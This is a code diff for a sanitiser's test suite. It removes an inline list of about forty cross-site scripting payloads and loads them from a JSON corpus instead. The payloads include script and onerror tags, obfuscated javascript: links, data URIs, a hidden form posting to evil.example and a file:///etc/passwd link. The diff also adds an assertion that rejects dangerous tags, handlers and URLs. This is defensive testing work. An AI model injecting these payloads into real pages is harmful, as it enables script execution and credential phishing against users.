@@ -1,44 +1,32 @@
-/** Texts that try to run something, load something or pose as something else. */
-export const HOSTILE: string[] = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg/onload=alert(1)>",
-  "<iframe src=javascript:alert(1)></iframe>",
-  "<style>*{display:none}</style><form action=https://evil.example><input name=x></form>",
-  '<a href="javascript:alert(1)">x</a>',
-  "<math><mtext></p><style><img src=x onerror=alert(1)>",
-  "<textarea><img src=x onerror=alert(1)></textarea>",
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "<!--><img src=x onerror=alert(1)>-->",
-  "[x](javascript:alert(1))",
-  "[x](JaVaScRiPt:alert(1))",
-  "[x](java\tscript:alert(1))",
-  "[x](&#106;avascript:alert(1))",
-  "[x](javascript&colon;alert(1))",
-  "[x](data:text/html;base64,PHNjcmlwdD4=)",
-  "[x](vbscript:msgbox(1))",
-  "[x](file:///etc/passwd)",
-  "[x](//evil.example/a)",
-  "[x](blob:https://evil.example/1)",
-  '[x](https://a.example " onmouseover=alert(1) x=")',
-  '[x](https://a.example/"onmouseover=alert(1))',
-  "<javascript:alert(1)>",
-  "![x](javascript:alert(1))",
-  '![x](https://evil.example/pixel.png "t" onerror=alert(1))',
-  '![" onerror=alert(1)](https://evil.example/a.png)',
-  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-  "[a]: javascript:alert(1)\n\n[a]",
-  "```html\n<script>alert(1)</script>\n```",
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  "`<img src=x onerror=alert(1)>`",
-  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | [y](javascript:1) |",
-  "- [ ] <input onfocus=alert(1) autofocus>",
-  "# <h1 onclick=alert(1)>x",
-  "&lt;img src=x onerror=alert(1)&gt;",
-  "{{constructor.constructor('alert(1)')()}}",
-  "\u202egnp.exe\u202c and \u0000 and \u200b",
-  "](https://x.example)[",
-  `${"> ".repeat(400)}deep`,
-  `${"*a **b ".repeat(200)}`,
-  `${"[".repeat(500)}x${"](".repeat(500)}`,
-];
+/** Texts that try to run something, load something or pose as something else; the kernel's own tests read the same file. */
+
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { expect } from "vitest";
+
+export const CORPUS: Record<string, string[]> = JSON.parse(
+  readFileSync(join(import.meta.dirname, "../../tests/hostile/corpus.json"), "utf8"),
+);
+
+export const HOSTILE: string[] = Object.values(CORPUS).flat();
+
+const NEVER =
+  "script iframe frame object embed applet link meta base style video audio source track picture portal template image use foreignObject";
+
+/** Nothing below `root` can run, load, or lead anywhere that a person would not expect. */
+export function expectHarmless(root: Element): void {
+  expect(root.querySelector(NEVER.split(" ").join(","))).toBeNull();
+  for (const element of root.querySelectorAll("*")) {
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(
+        /^on|^formaction$|^ping$|^background$|^srcdoc$|^srcset$|^xlink|^poster$|^is$/i,
+      );
+      if (name === "href") {
+        expect(value).toMatch(/^(?:https?:|mailto:)/);
+        expect(element.getAttribute("rel")).toContain("noopener");
+      }
+      if (name === "src") expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
+      if (name === "style") expect(value).not.toMatch(/url|expression|position|behavior|import/i);
+    }
+  }
+}
